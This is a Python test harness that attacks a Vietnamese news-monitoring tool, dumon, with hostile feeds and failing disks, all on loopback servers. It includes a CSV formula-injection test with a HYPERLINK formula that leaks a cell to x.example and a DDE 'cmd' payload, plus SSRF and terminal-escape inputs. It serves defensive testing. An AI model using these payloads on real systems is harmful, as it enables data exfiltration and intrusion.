"""The hostile-input and failing-machine attacks, each run against real loopback servers, a real
SQLite file and real `python -m dumon` processes, as an attacker or a dying machine would.

Each attack is a function `attack(lab) -> Verdict` registered with `@attack(name, slow=…)`;
`tests/test_attacks.py` runs each one as a test, `bench/attack_bench.py` runs them all and
prints pass or fail per attack with the figures (peak RSS, parse times). `Lab` gives an attack
a fresh desk, loopback servers and a way to run dumon on the desk.

Usage::

    from support.attacks import ATTACKS, Lab

    with Lab(tmp_path) as lab:
        verdict = ATTACKS["ssrf-discovered-link"].run(lab)
        assert verdict.passed, verdict.detail
"""

from __future__ import annotations

import contextlib
import json
import os
import shutil
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from xml.sax.saxutils import escape

from support.loopback import LoopbackServer, Reply
from support.smtp import SmtpServer

ROOT = Path(__file__).resolve().parents[2]
KEYWORDS = ROOT / "keywords"
DEADLINE = 20.0  # the scan deadline the parsing attacks run under
RSS_LIMIT_MB = 600.0
SLOW_GRACE = 5.0  # the quadratic inputs must finish within DEADLINE + this
SHORT_DEADLINE = 6.0  # the deadline of the attack whose parse job outlasts it
TRACEBACK = "Traceback (most recent call last)"
# ESC and CSI (7-bit and 8-bit), BEL, and the other C0/C1 controls a terminal acts on.
TERMINAL_CONTROLS = [chr(c) for c in (*range(0x00, 0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]


@dataclass
class Verdict:
    """What an attack found: passed or not, why, and figures worth printing."""

    passed: bool
    detail: str = ""
    figures: dict[str, float] = field(default_factory=dict)


@dataclass(frozen=True)
class Attack:
    name: str
    point: int  # the numbered point of the issue it checks
    slow: bool
    run: Callable[[Lab], Verdict]


ATTACKS: dict[str, Attack] = {}


def attack(name: str, point: int, *, slow: bool = False):
    def register(fn: Callable[[Lab], Verdict]) -> Callable[[Lab], Verdict]:
        ATTACKS[name] = Attack(name, point, slow, fn)
        return fn

    return register


def check(verdict: list[str], condition: bool, problem: str) -> None:
    """Collect `problem` when `condition` is false (an attack reports every problem it sees)."""
    if not condition:
        verdict.append(problem)


def verdict_of(problems: list[str], **figures: float) -> Verdict:
    return Verdict(not problems, "; ".join(problems) or "ok", dict(figures))


# --- the lab ------------------------------------------------------------------------------------


@dataclass
class Run:
    status: int
    stdout: str
    stderr: str
    seconds: float
    peak_mb: float = 0.0  # the largest peak RSS of any process of the run (when sampled)

    @property
    def output(self) -> str:
        return self.stdout + self.stderr


class Lab:
    """A desk in a folder, loopback servers on demand, and dumon run as a process on the desk."""

    def __init__(self, folder: Path):
        self.folder = folder
        self.desk = folder / "desk"
        self.desk.mkdir(parents=True, exist_ok=True)
        self._servers: list[LoopbackServer] = []
        self._closers: list[Callable[[], None]] = []

    def __enter__(self) -> Lab:
        return self

    def __exit__(self, *exc: object) -> None:
        for server in self._servers:
            server.close()
        for close in self._closers:
            close()

    def server(self, host: str = "127.0.0.1") -> LoopbackServer:
        server = LoopbackServer(host)
        self._servers.append(server)
        return server

    def on_close(self, fn: Callable[[], None]) -> None:
        self._closers.append(fn)

    def keywords(self) -> None:
        if not (self.desk / "keywords").exists():
            (self.desk / "keywords").symlink_to(KEYWORDS)

    def sources(self, entries: list[dict], **defaults: object) -> None:
        """sources.yaml with the given entries (name, url, kind…) and a fast fetch policy."""
        policy = {
            "timeout": 5,
            "connect_timeout": 3,
            "retries": 1,
            "backoff": 0.05,
            "respect_robots": False,
            "scan_deadline": DEADLINE,
            **defaults,
        }
        lines = ["defaults:"]
        lines += [
            f"  {k}: {str(v).lower() if isinstance(v, bool) else v}" for k, v in policy.items()
        ]
        lines.append("sources:")
        for entry in entries:
            entry = {"kind": "rss", "outlet": f"Báo {entry['name']}", "tier": "local", **entry}
            first = True
            for key, value in entry.items():
                text = json.dumps(value, ensure_ascii=False) if isinstance(value, dict) else value
                if isinstance(value, bool):
                    text = str(value).lower()
                lines.append(f"  {'- ' if first else '  '}{key}: {text}")
                first = False
        (self.desk / "sources.yaml").write_text("\n".join(lines) + "\n", encoding="utf-8")

    def env(self, **extra: str) -> dict[str, str]:
        return {**os.environ, "DUMON_HOME": str(self.desk), "PYTHONUNBUFFERED": "1", **extra}

    def dumon(
        self,
        *args: str,
        module: str = "dumon",
        timeout: float = 120,
        stdin: str | None = None,
        sample: bool = False,
        wrap: list[str] | None = None,
    ) -> Run:
        """`python -m dumon ARGS` on the desk (`wrap`: a command line put in front, such as
        `unshare …`); `sample`: follow the peak RSS of every process of the run."""
        command = [*(wrap or []), sys.executable, "-m", module, *args]
        started = time.monotonic()
        process = subprocess.Popen(
            command,
            env=self.env(),
            stdin=subprocess.PIPE if stdin is not None else subprocess.DEVNULL,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            start_new_session=True,
        )
        sampler = _Sampler(process.pid) if sample else None
        try:
            out, err = process.communicate(stdin, timeout=timeout)
        except subprocess.TimeoutExpired:
            with contextlib.suppress(ProcessLookupError):
                os.killpg(process.pid, 9)
            out, err = process.communicate()
            err += f"\n[killed after {timeout:g} s]"
        peak = sampler.stop() if sampler else 0.0
        return Run(process.returncode, out, err, time.monotonic() - started, peak)

    def query(self, sql: str, params: tuple = ()) -> list[tuple]:
        with contextlib.closing(sqlite3.connect(self.desk / "dumon.db")) as conn:
            return conn.execute(sql, params).fetchall()

    def outcomes(self) -> dict[str, tuple[str, str | None, str | None]]:
        """The last run's (status, error_kind, error) per source."""
        rows = self.query(
            "select source, status, error_kind, error from run_sources "
            "where run_id = (select max(id) from runs)"
        )
        return {name: (status, kind, error) for name, status, kind, error in rows}

    def import_lines(self, records: list[dict]) -> Run:
        path = self.folder / "nhap.jsonl"
        path.write_text(
            "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records), encoding="utf-8"
        )
        return self.dumon("import", "--jsonl", str(path))


class _Sampler:
    """Samples the peak RSS (VmHWM) of a process and its descendants every 20 ms."""

    def __init__(self, pid: int):
        self.pid = pid
        self.peaks: dict[int, int] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)
        self._thread.start()

    def _run(self) -> None:
        while not self._stop.is_set():
            for pid in _tree(self.pid):
                self.peaks[pid] = max(self.peaks.get(pid, 0), _high_water_kb(pid))
            self._stop.wait(0.02)

    def stop(self) -> float:
        self._stop.set()
        self._thread.join()
        return max(self.peaks.values(), default=0) / 1024


def _tree(pid: int) -> list[int]:
    out, todo = [], [pid]
    while todo:
        current = todo.pop()
        out.append(current)
        with (
            contextlib.suppress(OSError),
            open(f"/proc/{current}/task/{current}/children") as handle,
        ):
            todo.extend(int(p) for p in handle.read().split())
    return out


def _high_water_kb(pid: int) -> int:
    try:
        with open(f"/proc/{pid}/status") as handle:
            for line in handle:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1])
    except OSError:
        pass
    return 0


def rss(items: list[tuple[str, str, str]], *, extra: str = "", pub: str | None = None) -> str:
    """An RSS 2.0 document; items are (title, link, description), escaped here."""
    date = pub or "Fri, 27 Nov 2026 08:30:00 +0700"
    entries = "".join(
        f"<item><title>{escape(t)}</title><link>{escape(u)}</link>"
        f"<description>{escape(d)}</description><pubDate>{date}</pubDate></item>"
        for t, u, d in items
    )
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>{extra}<rss version="2.0"><channel>'
        f"<title>Báo thử</title><link>http://127.0.0.1/</link>{entries}</channel></rss>"
    )


def school_items(base: str, prefix: str, n: int = 3) -> list[tuple[str, str, str]]:
    return [
        (f"Sở GD&ĐT Ninh Bình: tin {prefix} số {i}", f"{base}/{prefix}/{i}.html", "Tóm tắt tin")
        for i in range(n)
    ]


def corrupt(path: Path) -> None:
    """Scribble over a page in the middle of the database, as a failing disk would."""
    with contextlib.closing(sqlite3.connect(path)) as conn:
        conn.execute("pragma wal_checkpoint(truncate)")
        page = conn.execute("pragma page_size").fetchone()[0]
        pages = conn.execute("pragma page_count").fetchone()[0]
    with path.open("r+b") as handle:
        handle.seek(page * max(2, pages // 2))
        handle.write(b"\x13" * page)


def smash(path: Path) -> None:
    """Scribble over the database's first page: SQLite then says "file is not a database"."""
    with contextlib.closing(sqlite3.connect(path)) as conn:
        conn.execute("pragma wal_checkpoint(truncate)")
    with path.open("r+b") as handle:
        handle.write(b"\x13" * 4096)


def filled_desk(lab: Lab, n: int = 40) -> None:
    """A desk whose database holds `n` articles (imported), several pages of it."""
    lab.keywords()
    lab.sources([{"name": "nguon", "url": "http://127.0.0.1:9/rss"}])
    records = [
        {
            "id": str(i),
            "title": f"Sở GD&ĐT Ninh Bình: tuyển sinh lớp 10 tin số {i}",
            "summary": "Tóm tắt " * 40,
            "body": "Nội dung bài báo về trường học. " * 80,
            "url": f"http://127.0.0.1/bai/{i}.html",
            "outlet": "Báo Thử",
            "date": "2026-11-27T08:30:00+07:00",
        }
        for i in range(n)
    ]
    run = lab.import_lines(records)
    assert run.status == 0, run.output


def no_traceback(problems: list[str], run: Run, what: str) -> None:
    check(problems, TRACEBACK not in run.output, f"{what}: traceback: {run.output[-300:]!r}")


def error_line(problems: list[str], run: Run, what: str, status: int, *words: str) -> None:
    """The run ended with `status` and one "Lỗi:" line holding `words`, no traceback."""
    check(problems, run.status == status, f"{what}: status {run.status}, not {status}")
    check(problems, "Lỗi:" in run.stderr, f"{what}: no 'Lỗi:' line: {run.output[-300:]!r}")
    for word in words:
        check(problems, word in run.output, f"{what}: {word!r} missing: {run.output[-300:]!r}")
    no_traceback(problems, run, what)


# --- 1. response headers that break a source for good ------------------------------------------


@attack("validator-non-ascii", 1)
def _validators(lab: Lab) -> Verdict:
    server = lab.server()
    feed = rss(school_items(server.base_url, "etag"))
    # UTF-8 bytes in the validators, as a misconfigured CMS sends them ("é" as Latin-1 pairs).
    server.route(
        "/rss",
        body=feed,
        content_type="application/rss+xml",
        headers={
            "ETag": '"phi\xc3\xaan-b\xe1\xba\xa3n"',
            "Last-Modified": "Th\xe1\xbb\xa9 S\xc3\xa1u",
        },
    )
    lab.keywords()
    lab.sources([{"name": "etag", "url": server.url("/rss")}])
    problems: list[str] = []
    for n in range(3):
        run = lab.dumon("scan", "--json")
        check(problems, run.status == 0, f"scan {n + 1}: status {run.status}: {run.output[-300:]}")
    stored = lab.query("select etag, last_modified from sources where name = 'etag'")
    check(problems, stored == [(None, None)], f"unsendable validators stored: {stored}")
    # A desk written by an older dumon already holds one: dropped when sent, and `enable`
    # clears it.
    with contextlib.closing(sqlite3.connect(lab.desk / "dumon.db")) as conn:
        conn.execute("update sources set etag = 'W/\"hỏng\"', disabled_at = '2026-01-01'")
        conn.commit()
    run = lab.dumon("sources", "enable", "etag")
    check(problems, run.status == 0, f"enable: {run.output}")
    check(problems, lab.query("select etag from sources") == [(None,)], "enable kept the ETag")
    with contextlib.closing(sqlite3.connect(lab.desk / "dumon.db")) as conn:
        conn.execute("update sources set etag = 'W/\"hỏng\"'")
        conn.commit()
    run = lab.dumon("scan", "--json")
    check(problems, run.status == 0, f"scan with a stored bad ETag: {run.output[-300:]}")
    return verdict_of(problems)


# --- 2. scheduled jobs that fail in silence ----------------------------------------------------


@attack("runlog-corrupt-database", 2)
def _runlog_corrupt(lab: Lab) -> Verdict:
    filled_desk(lab)
    smash(lab.desk / "dumon.db")
    problems: list[str] = []
    for command in (["scan"], ["digest"], ["search", "tuyen sinh"]):
        run = lab.dumon(*command, module="dumon.runlog")
        what = f"runlog {command[0]}"
        error_line(problems, run, what, 5, "bị hỏng", "Nhật ký:", "dumon.log")
    return verdict_of(problems)


# --- 3. backups that destroy the good copies ---------------------------------------------------


@attack("backup-of-corrupt-database", 3)
def _backup_corrupt(lab: Lab) -> Verdict:
    filled_desk(lab)
    folder = lab.folder / "backups"
    problems: list[str] = []
    for _ in range(2):
        run = lab.dumon("db", "backup", f"{folder}/", "--keep", "2")
        check(problems, run.status == 0, f"good backup: {run.output}")
        time.sleep(1.1)  # dated copies are named to the second
    good = sorted(folder.glob("dumon-*.db"))
    (folder / "dumon-20000101-000000.db.part").write_bytes(b"half a backup killed midway")
    corrupt(lab.desk / "dumon.db")
    run = lab.dumon("db", "backup", f"{folder}/", "--keep", "2")
    error_line(problems, run, "backup", 5, "toàn vẹn")
    after = sorted(folder.glob("dumon-*.db"))
    check(problems, after == good, f"good copies changed: {good} -> {after}")
    check(problems, len(list(folder.glob("*.corrupt"))) == 1, "the bad copy was not kept aside")
    check(problems, not list(folder.glob("*.part")), "a killed backup's partial file is left")
    return verdict_of(problems)


# --- 4. parsing not bounded by the scan deadline -----------------------------------------------

QUADRATIC = 200_000


def _quadratic(lab: Lab, name: str, entries: list[dict], routes: dict[str, Reply]) -> Verdict:
    server = lab.server()
    for path, reply in routes.items():
        server.route(path, **reply.__dict__)
    lab.keywords()
    healthy = lab.server("127.0.0.2")
    healthy.route("/rss", body=rss(school_items(healthy.base_url, "tot")))
    entries = [{**e, "url": server.url(e["url"])} for e in entries]
    lab.sources([*entries, {"name": "tot", "url": healthy.url("/rss")}])
    run = lab.dumon("scan", "--json", timeout=DEADLINE * 4)
    problems: list[str] = []
    check(
        problems,
        run.seconds <= DEADLINE + SLOW_GRACE,
        f"scan took {run.seconds:.1f} s, over {DEADLINE + SLOW_GRACE:g} s",
    )
    outcomes = lab.outcomes()
    check(problems, outcomes.get("tot", ("",))[0] == "ok", f"healthy source: {outcomes.get('tot')}")
    no_traceback(problems, run, name)
    return verdict_of(problems, seconds=run.seconds)


@attack("quadratic-unterminated-tags", 4, slow=True)
def _quadratic_tags(lab: Lab) -> Verdict:
    base = "http://127.0.0.1"
    feed = rss([("Sở GD&ĐT Ninh Bình", f"{base}/a.html", "<a " * QUADRATIC)])
    routes = {"/rss": Reply(body=feed, content_type="application/rss+xml")}
    return _quadratic(lab, "unterminated <a", [{"name": "the-a", "url": "/rss"}], routes)


@attack("quadratic-comment-openers", 4, slow=True)
def _quadratic_comments(lab: Lab) -> Verdict:
    base = "http://127.0.0.1"
    feed = rss(
        [
            ("Sở GD&ĐT Ninh Bình", f"{base}/a.html", "<!--" * QUADRATIC),
            ("Trường THPT", f"{base}/b.html", "<![CDATA[" * QUADRATIC),
        ]
    )
    routes = {"/rss": Reply(body=feed, content_type="application/rss+xml")}
    return _quadratic(lab, "comment openers", [{"name": "chu-thich", "url": "/rss"}], routes)


@attack("quadratic-internal-subset", 4, slow=True)
def _quadratic_subset(lab: Lab) -> Verdict:
    feed = rss(school_items("http://127.0.0.1", "dtd"), extra="<!DOCTYPE rss [" * QUADRATIC)
    routes = {"/rss": Reply(body=feed, content_type="application/rss+xml")}
    return _quadratic(lab, "internal subset", [{"name": "dtd", "url": "/rss"}], routes)


@attack("quadratic-nested-listing", 4, slow=True)
def _quadratic_listing(lab: Lab) -> Verdict:
    item = '<div class="tin"><h3><a href="/bai/{n}.html">Sở GD&amp;ĐT Ninh Bình tin {n}</a></h3>'
    page = (
        "<html><body>"
        + "".join(item.format(n=n) for n in range(QUADRATIC // 4))
        + "</div>" * (QUADRATIC // 4)
        + "</body></html>"
    )
    routes = {"/": Reply(body=page, content_type="text/html; charset=utf-8")}
    entry = {
        "name": "long-nhau",
        "url": "/",
        "kind": "html",
        "selectors": {"item": "div.tin", "link": "h3 a"},
    }
    return _quadratic(lab, "nested listing", [entry], routes)


@attack("deadline-stops-a-long-job", 4, slow=True)
def _deadline_kills(lab: Lab) -> Verdict:
    """A feed whose parsing outlasts the deadline: the job is stopped, the lock freed."""
    server = lab.server()
    base = server.base_url
    items = [(f"Bài số {i} về trường học", f"{base}/b/{i}", "Tóm tắt") for i in range(60_000)]
    # Not well-formed (a raw "&"), so feedparser's tolerant reader takes it: a quarter minute.
    feed = rss(items).replace("<channel>", "<channel><x>&</x>")
    server.route("/rss", body=feed, content_type="application/rss+xml")
    lab.keywords()
    # The deadline falls after the fetch (a second or two), while the parse job runs.
    lab.sources(
        [{"name": "dai", "url": server.url("/rss")}],
        scan_deadline=SHORT_DEADLINE,
        max_bytes=50_000_000,
    )
    run = lab.dumon("scan", "--json", timeout=120)
    problems: list[str] = []
    limit = SHORT_DEADLINE + SLOW_GRACE
    check(problems, run.seconds <= limit, f"scan took {run.seconds:.1f} s, over {limit:g} s")
    status, kind, _ = lab.outcomes().get("dai", ("", "", ""))
    check(problems, (status, kind) == ("failed", "deadline"), f"outcome {status}/{kind}")
    again = lab.dumon("scan", "--json", timeout=120)  # the lock is free: not status 4
    check(problems, again.status != 4, "the lock was still held")
    return verdict_of(problems, seconds=run.seconds)


# --- 5. article bodies that exhaust memory -----------------------------------------------------

BIG_PAGE = 9_500_000


@attack("big-article-pages", 5, slow=True)
def _big_pages(lab: Lab) -> Verdict:
    server = lab.server()
    paragraph = "<p>" + "Sở Giáo dục và Đào tạo tổ chức kỳ thi tuyển sinh lớp 10. " * 20 + "</p>\n"
    page = ("<html><body><article>" + paragraph * (BIG_PAGE // len(paragraph.encode()))).encode()
    page += b"</article></body></html>"
    items = [
        (f"Sở GD&ĐT Ninh Bình: bài dài số {i}", f"{server.base_url}/trang/{i}.html", "Tóm tắt")
        for i in range(30)
    ]
    server.route("/rss", body=rss(items), content_type="application/rss+xml")
    for i in range(30):
        server.route(f"/trang/{i}.html", body=page, content_type="text/html; charset=utf-8")
    lab.keywords()
    lab.sources([{"name": "trang-lon", "url": server.url("/rss"), "fetch_body": True}])
    run = lab.dumon("scan", "--json", sample=True, timeout=DEADLINE * 4)
    problems: list[str] = []
    check(problems, run.peak_mb <= RSS_LIMIT_MB, f"peak RSS {run.peak_mb:.0f} MB")
    check(problems, run.seconds <= DEADLINE + SLOW_GRACE, f"scan took {run.seconds:.1f} s")
    # What succeeded is stored (pages not in by the deadline leave their articles to the
    # next scan, which finds them new again).
    stored, with_body = lab.query("select count(*), sum(length(body) > 1000) from articles")[0]
    check(problems, stored >= 1 and (with_body or 0) >= 1, f"stored {stored}, bodies {with_body}")
    return verdict_of(
        problems, peak_mb=run.peak_mb, seconds=run.seconds, stored=stored, bodies=with_body or 0
    )


# --- 6. one bad item takes its neighbours down --------------------------------------------------


@attack("non-text-codecs", 6)
def _codecs(lab: Lab) -> Verdict:
    server = lab.server()
    for codec in ("hex", "base64", "zlib"):
        server.route(
            f"/{codec}.rss",
            body=rss(school_items(server.base_url, codec)),
            content_type=f"application/rss+xml; charset={codec}",
        )
    listing = (
        '<html><head><meta charset="base64"></head><body>'
        '<div class="tin"><a href="/l/1.html">Sở GD&amp;ĐT Ninh Bình họp</a></div></body></html>'
    )
    server.route("/list", body=listing, content_type="text/html; charset=rot13")
    lab.keywords()
    entries = [{"name": c, "url": server.url(f"/{c}.rss")} for c in ("hex", "base64", "zlib")]
    entries.append(
        {"name": "trang", "url": server.url("/list"), "kind": "html", "selectors": {"item": ".tin"}}
    )
    lab.sources(entries)
    run = lab.dumon("scan", "--json")
    problems: list[str] = []
    check(problems, run.status == 0, f"scan status {run.status}: {run.output[-400:]}")
    for name, (status, _, error) in lab.outcomes().items():
        check(problems, status == "ok", f"{name}: {status} {error}")
    return verdict_of(problems)


@attack("dates-out-of-range", 6)
def _dates(lab: Lab) -> Verdict:
    server = lab.server()
    rows = "".join(
        f'<div class="tin"><a href="/d/{i}.html">Sở GD&amp;ĐT Ninh Bình tin {i}</a>'
        f'<span class="ngay">{date}</span></div>'
        for i, date in enumerate(["27/11/2026 08:30", "31/12/9999 23:59 GMT-12", "28/11/2026"])
    )
    server.route("/list", body=f"<html><body>{rows}</body></html>", content_type="text/html")
    lab.keywords()
    lab.sources(
        [
            {
                "name": "ngay",
                "url": server.url("/list"),
                "kind": "html",
                "selectors": {"item": ".tin", "date": ".ngay"},
            }
        ]
    )
    problems: list[str] = []
    run = lab.dumon("scan", "--json")
    check(problems, run.status == 0, f"scan: {run.output[-300:]}")
    check(problems, lab.query("select count(*) from articles") == [(3,)], "listing items lost")
    records = [
        {"id": str(i), "title": f"Trường học tin {i}", "url": f"{server.base_url}/j/{i}", "date": d}
        for i, d in enumerate(["2026-11-27", "9999-12-31T23:00:00-12:00", "2026-11-28"])
    ]
    run = lab.import_lines(records)
    check(problems, run.status == 0, f"import: {run.output[-300:]}")
    check(problems, "dòng 2" in run.output, f"import names no line: {run.output}")
    imported = lab.query("select count(*) from articles where url like '%/j/%'")
    check(problems, imported == [(3,)], f"import stored {imported}")
    no_traceback(problems, run, "import")
    source = lab.folder / "nhap.jsonl"
    run = lab.dumon("match", "--jsonl", str(source))
    lines = [json.loads(line) for line in run.stdout.splitlines() if line.strip()]
    check(problems, run.status == 1, f"match status {run.status}")
    check(problems, len(lines) == 3, f"match printed {len(lines)} lines for 3: {run.output[-300:]}")
    check(problems, len(lines) == 3 and "error" in lines[1], f"no per-line error: {lines}")
    no_traceback(problems, run, "match")
    return verdict_of(problems)


# --- 7. and 8. errors that were tracebacks -----------------------------------------------------


@attack("bad-css-selector", 7)
def _selector(lab: Lab) -> Verdict:
    lab.keywords()
    lab.sources(
        [
            {
                "name": "sai",
                "url": "http://127.0.0.1:9/",
                "kind": "html",
                "selectors": {"item": "div[[tin"},
            }
        ]
    )
    problems: list[str] = []
    run = lab.dumon("scan")
    error_line(problems, run, "scan", 2, "sources.yaml, dòng", "Cách sửa")
    return verdict_of(problems)


@attack("search-usage-errors", 7)
def _search_usage(lab: Lab) -> Verdict:
    filled_desk(lab, 3)
    problems: list[str] = []
    deep = "(" * 5000 + "truong" + ")" * 5000
    for args in (["search", deep], ["search", "truong", "--limit", "1e20"]):
        run = lab.dumon(*args)
        check(problems, run.status == 2, f"{args[1][:10]}…: status {run.status}")
        no_traceback(problems, run, args[-1][:10])
    run = lab.dumon("search", "truong", "--limit", "100000000000000000000")
    error_line(problems, run, "--limit 1e20 as digits", 2, "--limit")
    return verdict_of(problems)


@attack("deep-json-feed", 8)
def _deep_json(lab: Lab) -> Verdict:
    server = lab.server()
    server.route(
        "/feed.json",
        body='{"version": "https://jsonfeed.org/version/1.1", "items": ' + "[" * 100_000,
        content_type="application/feed+json",
    )
    lab.keywords()
    lab.sources([{"name": "sau", "url": server.url("/feed.json")}])
    lab.dumon("scan", "--json")
    status, kind, error = lab.outcomes().get("sau", ("", "", ""))
    problems: list[str] = []
    check(problems, (status, kind) == ("failed", "parse"), f"{status}/{kind}: {error}")
    return verdict_of(problems)


# --- 9. SSRF -----------------------------------------------------------------------------------


def _ssrf_desk(lab: Lab, link: str, *, fetch_body: bool = True) -> LoopbackServer:
    source = lab.server()
    source.route(
        "/rss",
        body=rss([("Sở GD&ĐT Ninh Bình: bài có liên kết", link, "Tóm tắt")]),
        content_type="application/rss+xml",
    )
    lab.keywords()
    lab.sources([{"name": "nguon", "url": source.url("/rss"), "fetch_body": fetch_body}])
    return source


SECRET = "Bí mật nội bộ: mật khẩu máy chủ " * 20


@attack("ssrf-discovered-link", 9)
def _ssrf_link(lab: Lab) -> Verdict:
    inside = lab.server("127.0.0.2")
    inside.route("/admin", body=f"<html><body><article><p>{SECRET}</p></article></body></html>")
    _ssrf_desk(lab, inside.url("/admin"))
    lab.dumon("scan", "--json")
    problems: list[str] = []
    check(problems, inside.hits("/admin") == 0, "the link to another local address was fetched")
    bodies = lab.query("select body from articles")
    check(problems, bodies == [("",)], f"stored: {bodies}")
    return verdict_of(problems)


@attack("ssrf-name-resolving-to-loopback", 9)
def _ssrf_dns(lab: Lab) -> Verdict:
    inside = lab.server("127.0.0.1")
    inside.route("/admin", body=f"<html><body><article><p>{SECRET}</p></article></body></html>")
    source = lab.server("127.0.0.2")
    source.route(
        "/rss",
        body=rss([("Sở GD&ĐT Ninh Bình: tin", f"http://localhost:{inside.port}/admin", "x")]),
    )
    lab.keywords()
    lab.sources([{"name": "nguon", "url": source.url("/rss"), "fetch_body": True}])
    lab.dumon("scan", "--json")
    problems: list[str] = []
    check(problems, inside.hits("/admin") == 0, "a name resolving to loopback was fetched")
    return verdict_of(problems)


@attack("ssrf-redirect", 9)
def _ssrf_redirect(lab: Lab) -> Verdict:
    inside = lab.server("127.0.0.2")
    inside.route("/admin", body=rss(school_items(inside.base_url, "noi-bo")))
    source = lab.server()
    source.route("/rss", status=302, headers={"Location": inside.url("/admin")})
    lab.keywords()
    lab.sources([{"name": "chuyen", "url": source.url("/rss")}])
    lab.dumon("scan", "--json")
    problems: list[str] = []
    check(
        problems, inside.hits("/admin") == 0, "the redirect to another local address was followed"
    )
    status, kind, error = lab.outcomes().get("chuyen", ("", "", ""))
    check(problems, (status, kind) == ("failed", "blocked"), f"{status}/{kind}: {error}")
    return verdict_of(problems)


@attack("ssrf-same-host-allowed", 9)
def _same_host(lab: Lab) -> Verdict:
    """The rule's other side: a configured local source's own pages are still read."""
    source = lab.server()
    page = "<html><body><article><p>" + "Nội dung bài báo về trường học. " * 20 + "</p>"
    source.route("/bai.html", body=page + "</article></body></html>", content_type="text/html")
    _ssrf_desk(lab, source.url("/bai.html"))
    lab.dumon("scan", "--json")
    problems: list[str] = []
    bodies = lab.query("select length(body) from articles")
    check(problems, bodies and bodies[0][0] > 100, f"the source's own page was not read: {bodies}")
    return verdict_of(problems)


# --- 10. terminal escapes ----------------------------------------------------------------------


@attack("terminal-escapes", 10)
def _escapes(lab: Lab) -> Verdict:
    server = lab.server()
    # A header value carrying 8-bit CSI (the HTTP parser refuses ESC itself): it reaches the
    # failure's reason, which scan, `sources health` and doctor print.
    server.route(
        "/rss",
        body=b"x",
        content_type="application/rss+xml",
        headers={"Content-Encoding": "\x9b2J\x9b31m\x9d0;bi-chiem\x9c"},
    )
    lab.keywords()
    lab.sources([{"name": "thoat", "url": server.url("/rss")}])
    problems: list[str] = []
    for args in (["scan"], ["sources", "health"], ["doctor"], ["sources", "list"]):
        run = lab.dumon(*args)
        found = sorted({hex(ord(c)) for c in run.output if c in TERMINAL_CONTROLS})
        check(problems, not found, f"{' '.join(args)}: control characters {found}")
        no_traceback(problems, run, args[0])
    return verdict_of(problems)


# --- 11. CSV formulas --------------------------------------------------------------------------


@attack("csv-formulas", 11)
def _csv(lab: Lab) -> Verdict:
    lab.keywords()
    lab.sources([{"name": "nguon", "url": "http://127.0.0.1:9/rss"}])
    titles = [
        '=HYPERLINK("http://x.example/?"&A1,"Bấm")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1",
        "-2",
    ]
    records = [
        {"id": str(i), "title": t, "url": f"http://127.0.0.1/f/{i}", "date": "2026-11-27"}
        for i, t in enumerate(titles)
    ]
    problems: list[str] = []
    run = lab.import_lines(records)
    check(problems, run.status == 0, f"import: {run.output}")
    target = lab.folder / "xuat.csv"
    run = lab.dumon("export", "--format", "csv", "-o", str(target))
    check(problems, run.status == 0, f"export: {run.output}")
    import csv

    with target.open(encoding="utf-8", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    live = [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    check(problems, not live, f"cells a spreadsheet would run: {live}")
    check(problems, "'" + titles[0] in cells, "the title is not kept, made inert")
    return verdict_of(problems)


# --- 12. a machine in trouble ------------------------------------------------------------------


@attack("corrupt-database-commands", 12)
def _corrupt_commands(lab: Lab) -> Verdict:
    filled_desk(lab)
    smash(lab.desk / "dumon.db")
    jsonl = lab.folder / "mot.jsonl"
    jsonl.write_text('{"id": "x", "title": "Trường học", "url": "http://127.0.0.1/x"}\n')
    problems: list[str] = []
    for args in (
        ["scan"],
        ["digest"],
        ["search", "tuyen sinh"],
        ["report", "--from", "2026-11-01", "--to", "2026-11-30"],
        ["export", "--format", "csv"],
        ["import", "--jsonl", str(jsonl)],
        ["db", "prune", "--older-than", "30"],
        ["sources", "list"],
    ):
        run = lab.dumon(*args)
        error_line(problems, run, " ".join(args[:2]), 5, "bị hỏng", "Cách sửa")
    return verdict_of(problems)


def _namespace(lab: Lab, setup: str) -> list[str] | None:
    """A command line that runs what follows in a mount namespace after `setup` (shell), or
    None where mount namespaces are not available (then the attack is skipped)."""
    unshare = shutil.which("unshare")
    if unshare is None:
        return None
    flags = ["--mount"] if os.geteuid() == 0 else ["--user", "--map-root-user", "--mount"]
    probe = subprocess.run([unshare, *flags, "true"], capture_output=True)
    if probe.returncode != 0:
        return None
    return [unshare, *flags, "sh", "-c", f'{setup} && exec "$@"', "sh"]


class Skipped(Exception):
    """The attack cannot run on this machine (no mount namespaces)."""


@attack("read-only-desk", 12)
def _read_only(lab: Lab) -> Verdict:
    filled_desk(lab)
    desk = lab.desk
    wrap = _namespace(lab, f"mount --bind {desk} {desk} && mount -o remount,ro,bind {desk} {desk}")
    if wrap is None:
        raise Skipped("no mount namespaces here")
    problems: list[str] = []
    for args in (
        ["search", "tuyen sinh"],
        ["report", "--from", "2026-11-01", "--to", "2026-11-30", "--format", "text"],
        ["export", "--format", "jsonl"],
        ["digest", "--since", "2026-11-26", "--until", "2026-11-28", "--format", "text"],
        ["sources", "list"],
        ["sources", "health"],
        ["doctor"],
    ):
        run = lab.dumon(*args, wrap=wrap)
        what = " ".join(args[:2])
        check(problems, run.status in (0, 1), f"{what}: status {run.status}: {run.output[-300:]}")
        check(problems, "Lỗi:" not in run.output, f"{what}: {run.output[-300:]!r}")
        no_traceback(problems, run, what)
    digest = lab.dumon(
        "digest", "--since", "2026-11-26", "--until", "2026-11-28", "--format", "text", wrap=wrap
    )
    check(problems, "tuyển sinh lớp 10" in digest.stdout, "the digest was not printed")
    run = lab.dumon("scan", wrap=wrap)
    error_line(problems, run, "scan", 5, "chỉ cho đọc")
    return verdict_of(problems)


@attack("full-disk", 12)
def _full_disk(lab: Lab) -> Verdict:
    filled_desk(lab, 200)
    desk = lab.desk
    size = sum(p.stat().st_size for p in desk.rglob("*") if p.is_file() and not p.is_symlink())
    size += 1_000_000  # room for the copy's odds and ends, not for the next scan
    # The desk copied onto a small filesystem that its next scan fills.
    setup = (
